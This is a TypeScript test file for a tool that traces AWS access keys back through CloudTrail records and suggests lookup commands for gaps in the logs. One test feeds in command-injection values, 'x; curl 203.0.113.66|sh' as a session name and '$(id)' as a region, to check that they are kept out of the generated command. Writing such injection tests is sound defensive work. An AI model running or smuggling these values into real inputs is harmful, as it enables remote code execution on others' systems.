import { expect, test } from 'vitest';
import { otherAccountIdentity, rootIdentity, switchRole, withSession } from '../testing/identities.ts';
import { indexOf } from '../testing/index-of.ts';
import {
  assumeRole,
  call,
  consoleIdentity,
  federatedIdentity,
  roleIdentity,
  USER_KEY,
  userIdentity,
} from '../testing/records.ts';
import { traceKey } from './trace-key.ts';

const KEY = 'ASIARTXV5AHDREXAMPLE';
const OTHER = 'ASIARTXV5AHDSEXAMPLE';
const CREATED = '2026-09-14T07:00:00Z';
const time = '2026-09-14T08:00:00Z';
const early = call(userIdentity(USER_KEY), 'ListBuckets', '2026-09-14T06:00:00Z');

test('a session that began before the first record is beyond it, with the day to look at', async () => {
  const used = call(withSession(roleIdentity(KEY, 'Payroll'), {}), 'GetObject', time);
  const { gaps } = await traceKey(KEY, indexOf(used));
  expect(gaps).toHaveLength(1);
  expect(gaps[0]).toMatchObject({
    kind: 'beyond-retention',
    what: expect.stringContaining(`it began at ${CREATED}, and the records begin at ${time}`),
    command: `aws cloudtrail lookup-events --lookup-attributes AttributeKey=ResourceName,AttributeValue=${KEY} --start-time 2026-09-14T06:55:00Z --end-time 2026-09-14T07:05:00Z`,
  });
  expect(gaps[0]?.lookup).toContain('Get the logs of 2026-09-14');
  expect(gaps[0]?.lookup).toContain(gaps[0]?.command);
});

test('a session that began within the records should have its issuing call there', async () => {
  const used = call(withSession(roleIdentity(KEY, 'Payroll'), {}), 'GetObject', time);
  const { gaps } = await traceKey(KEY, indexOf(early, used));
  expect(gaps[0]).toMatchObject({
    kind: 'issuance-not-in-logs',
    what: `No record hands out ${KEY}, a session of arn:aws:iam::111111111111:role/Payroll that began at ${CREATED}`,
    lookup: expect.stringContaining(`(around ${CREATED}): aws cloudtrail`),
  });
});

test("with the role's account alone, the gap names the caller's account and the shared event", async () => {
  const copy = {
    ...assumeRole(otherAccountIdentity('222222222222'), { key: KEY, role: 'Deployer', time }),
    sharedEventID: 'shared-1',
    recipientAccountId: '111111111111',
  };
  const { gaps, chain } = await traceKey(KEY, indexOf(copy));
  expect(gaps).toHaveLength(1);
  expect(gaps[0]).toMatchObject({
    kind: 'other-account',
    what: expect.stringContaining('the caller is in another account 222222222222 (AIDAQBS6T6WOHEXAMPLE2)'),
    lookup: expect.stringContaining('shared event id shared-1'),
    command: expect.stringMatching(/--start-time 2026-09-14T07:55:00Z --end-time .* --region us-east-1$/),
  });
  expect(chain[0]?.sharedEventId).toBe('shared-1');
});

test("a caller's copy that does not name the new key is joined by the shared event id, in any order", async () => {
  const whole = assumeRole(userIdentity(USER_KEY), {
    key: KEY,
    role: 'Deployer',
    time,
    account: '222222222222',
  });
  const shared = { ...whole, sharedEventID: 'shared-1' };
  const own = { ...shared, responseElements: null, eventID: 'own', recipientAccountId: '111111111111' };
  const theirs = { ...shared, userIdentity: otherAccountIdentity(), recipientAccountId: '222222222222' };
  const lineage = await traceKey(KEY, indexOf(own, theirs));
  expect(lineage.chain.map(({ accessKeyId }) => accessKeyId)).toEqual([USER_KEY, KEY]);
  expect(lineage.chain[1]).toMatchObject({ eventId: 'own', roleName: 'Deployer', account: '222222222222' });
  expect(lineage.gaps).toEqual([]);
  expect(await traceKey(KEY, indexOf(theirs, own))).toEqual(lineage);
  expect((await traceKey(USER_KEY, indexOf(theirs, own))).forward).toEqual([lineage.chain[1]]);

  const unrelated = { ...own, sharedEventID: 'shared-2' };
  expect((await traceKey(KEY, indexOf(unrelated, theirs))).gaps[0]?.kind).toBe('other-account');
});

test('a refused AssumeRole is no hop, even beside a shared copy', async () => {
  const whole = assumeRole(userIdentity(USER_KEY), { key: KEY, role: 'Deployer', time });
  const refused = { ...whole, errorCode: 'AccessDenied', responseElements: null, sharedEventID: 'shared-1' };
  const odd = { ...whole, errorCode: 'AccessDenied' };
  expect((await traceKey(USER_KEY, indexOf(refused, odd))).forward).toEqual([]);
});

test('a switch of role in the console names who it was', async () => {
  const session = withSession(roleIdentity(KEY, 'Admin', '222222222222'), {});
  const used = { ...call(session, 'CreateUser', time), sessionCredentialFromConsole: 'true' };
  const switched = switchRole(session, 'arn:aws:iam::111111111111:user/ops/alice', '2026-09-14T07:00:01Z');
  const much = switchRole(session, 'arn:aws:iam::111111111111:user/bob', '2026-09-14T06:10:00Z');
  const { root, gaps } = await traceKey(KEY, indexOf(early, much, switched, used));
  expect(root).toMatchObject({ kind: 'iam-user', name: 'alice', account: '111111111111' });
  expect(gaps[0]).toMatchObject({
    kind: 'console-role-switch',
    what: expect.stringContaining('by arn:aws:iam::111111111111:user/ops/alice'),
    command: 'aws cloudtrail lookup-events --lookup-attributes AttributeKey=Username,AttributeValue=alice',
  });
  const unnamed = await traceKey(KEY, indexOf(early, used));
  expect(unnamed.root.kind).toBe('unknown');
  expect(unnamed.gaps[0]).toMatchObject({
    kind: 'console-role-switch',
    command: expect.stringContaining('AttributeKey=Username,AttributeValue=admin --start-time'),
  });
});

test('a switch of role that AssumeRole shows is told from other calls without a key', async () => {
  const own = assumeRole(consoleIdentity(), { key: KEY, role: 'Payroll', time });
  expect((await traceKey(KEY, indexOf(own))).gaps[0]).toMatchObject({
    kind: 'console-role-switch',
    what: expect.stringContaining('user build-bot made it by switching roles in the console'),
  });
  const { invokedBy: _, ...plain } = consoleIdentity();
  const other = assumeRole(plain, { key: KEY, role: 'Payroll', time });
  expect((await traceKey(KEY, indexOf(other))).gaps[0]?.kind).toBe('caller-without-key');
});

test('keys of the console are signed in for', async () => {
  const user = withSession({ ...userIdentity(KEY), invokedBy: 'signin.amazonaws.com' }, {});
  const { root, gaps } = await traceKey(KEY, indexOf(call(user, 'RunInstances', time)));
  expect(root).toMatchObject({ kind: 'iam-user', name: 'build-bot' });
  expect(gaps[0]).toMatchObject({
    kind: 'console-sign-in',
    command: expect.stringContaining('AttributeValue=ConsoleLogin --start-time 2026-09-14T06:55:00Z'),
  });
});

test('a session of the root user leads to AssumeRoot in the management account', async () => {
  const assumed = withSession(rootIdentity(KEY), { assumedRoot: 'true' });
  const { gaps, root } = await traceKey(KEY, indexOf(early, call(assumed, 'DeleteBucketPolicy', time)));
  expect(root).toMatchObject({ kind: 'unknown', account: '222222222222' });
  expect(gaps[0]).toMatchObject({
    kind: 'other-account',
    command: expect.stringContaining('AttributeKey=EventName,AttributeValue=AssumeRoot'),
  });
  const plain = withSession(rootIdentity(KEY), {});
  const session = await traceKey(KEY, indexOf(early, call(plain, 'GetObject', time)));
  expect(session.root.kind).toBe('root-user');
  expect(session.gaps[0]?.kind).toBe('issuance-not-in-logs');
});

test.each([
  ['lambda.amazonaws.com', 'report', 'function report', 'AttributeKey=ResourceName,AttributeValue=report'],
  ['ecs-tasks.amazonaws.com', 'abc', 'task abc', 'AttributeKey=EventName,AttributeValue=RunTask'],
])('a session that %s began says for what', async (service, name, thing, attribute) => {
  const record = assumeRole({ type: 'AWSService', invokedBy: service }, { key: KEY, role: 'Work', time });
  const requestParameters = { roleArn: 'arn:aws:iam::111111111111:role/Work', roleSessionName: name };
  const { root, gaps } = await traceKey(KEY, indexOf({ ...record, requestParameters }));
  expect(root).toMatchObject({ kind: 'aws-service', name: `${service} for ${name}` });
  expect(gaps).toHaveLength(1);
  expect(gaps[0]).toMatchObject({
    kind: 'service-issued',
    what: expect.stringContaining(`for ${thing} (event`),
    command: expect.stringContaining(attribute),
  });
});

test('what a name holds does not reach the command', async () => {
  const hostile = 'x; curl 203.0.113.66|sh';
  const record = assumeRole(
    { type: 'AWSService', invokedBy: 'lambda.amazonaws.com' },
    { key: KEY, role: 'Work', time },
  );
  const { gaps } = await traceKey(
    KEY,
    indexOf({ ...record, requestParameters: { roleSessionName: hostile }, awsRegion: '$(id)' }),
  );
  expect(gaps[0]?.command).toBe(
    'aws cloudtrail lookup-events --lookup-attributes AttributeKey=ResourceName,AttributeValue=NAME',
  );
});

test('an empty key id is no key', async () => {
  const record = assumeRole(userIdentity(''), { key: OTHER, role: 'Deployer', time });
  const { chain, gaps } = await traceKey(OTHER, indexOf(record));
  expect(chain).toHaveLength(1);
  expect(gaps[0]?.kind).toBe('caller-without-key');
});

test('a console session of a federated user leads to the call that federated it', async () => {
  const identity = withSession(federatedIdentity(KEY), {}, '20260914T070000Z');
  const used = { ...call(identity, 'CreateUser', time), sessionCredentialFromConsole: 'true' };
  const { root, gaps } = await traceKey(KEY, indexOf(early, used));
  expect(root).toMatchObject({ kind: 'iam-user', name: 'build-bot' });
  expect(gaps).toHaveLength(1);
  expect(gaps[0]).toMatchObject({ kind: 'console-sign-in' });
  expect(gaps[0]?.what).toContain('federated-user/guest, whose permissions are those of user build-bot');
  expect(gaps[0]?.what).toContain(`began at ${CREATED}`);
  expect(gaps[0]?.command).toContain('AttributeValue=GetFederationToken');
});
